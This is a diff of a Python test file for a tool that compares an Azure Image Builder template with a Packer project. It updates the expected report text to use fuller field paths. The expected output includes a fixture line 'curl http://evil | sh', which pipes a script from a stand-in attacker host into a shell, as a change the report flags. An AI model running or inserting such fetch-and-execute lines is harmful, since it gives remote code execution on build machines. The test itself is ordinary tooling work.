@@ -15,35 +15,36 @@ from aib2packer.comparison.model import Comparison, Row, Shown, Verdict
 from aib2packer.diagnostics.model import visible
 
 BESIDE = """\
-template.json ↔ web  made by aib2packer 0.1.0 --with tags, 2 edits since
+template.json ↔ web  made by aib2packer 0.1.0 --with tags, 2 files edited since
 
 vmProfile
-  ~ vmSize  Standard_D2s_v3 → Standard_D4s_v3
+  ~ vmProfile.vmSize  Standard_D2s_v3 → Standard_D4s_v3
       template.json:9  image.pkr.hcl:3  the project was edited
 
 customize
-  ~ [1] install inline    1 line added
+  ~ customize[1].inline (install)  1 line added
       template.json:18  image.pkr.hcl:31  the project was edited
       | echo "home is ${HOME}"
       + curl http://evil | sh
-  + shell provisioner[3]  before [2] containers
+  + provisioner[3] (shell)    before [2] containers
       image.pkr.hcl:35  the project was edited
       + id
-  - [2] containers        curl -fsSL https://example.com/docker.sh | sh
+  - customize[2] (containers)  curl -fsSL https://example.com/docker.sh | sh
       template.json:20  the template changed
-  ↕ [3] harden            was 4th, is 1st
+  ↕ customize[3] (harden)     was 4th, is 1st
       template.json:21  image.pkr.hcl:20  the project was edited
 
 distribute
-  ~ [0] replicationRegions  eastus2 is not there
+  ~ distribute[0].replicationRegions  eastus2 is not there
       template.json:24  image.pkr.hcl:11  both changed
       westus2, eastus2 → westus2
-  ? image_version           var.image_version has no value here
+  ? image_version             var.image_version has no value here
       image.pkr.hcl:10
       0.0.1 → var.image_version
 
 accepted (1)
   ~ source.sku: The gallery has generation 1 only.
+      server → server-gen1
 
 1 accepted difference no longer there: remove from the list
   source.version
@@ -57,7 +58,7 @@ ALONE = """\
 template.json
 
 optimize
-  - vmBoot.state  dropped A2P609                                 template.json:7
+  - optimize.vmBoot.state  dropped A2P609                        template.json:7
       Image Builder: Image Builder prepares the image so that VMs from it boot
       faster.
       Project: Packer has no counterpart; VMs boot as from any image.
@@ -68,7 +69,7 @@ template
       Project: Each long call to Azure ends after 120 minutes.
 
 the same by other means (1)
-  = [0] motd sourceUri                        template.json:14  image.pkr.hcl:25
+  = customize[0].sourceUri (motd)             template.json:14  image.pkr.hcl:25
       Image Builder: The build VM downloads the file.
       Project: fetch.sh downloads the file before the build.
 
@@ -94,7 +95,7 @@ def test_what_changes_before_migrating() -> None:
 
 def test_everything_has_the_same_rows_and_those_that_are_the_same() -> None:
     text = as_text(beside_a_project(), everything=True)
-    assert "  = osDiskSizeGB  64                           template.json:10  image.pkr.hcl:4\n" in text
+    assert "  = vmProfile.osDiskSizeGB  64                 template.json:10  image.pkr.hcl:4\n" in text
     assert {" ".join(line.split()) for line in BESIDE.splitlines()} < {" ".join(line.split()) for line in text.splitlines()}
     assert "=" not in BESIDE
 
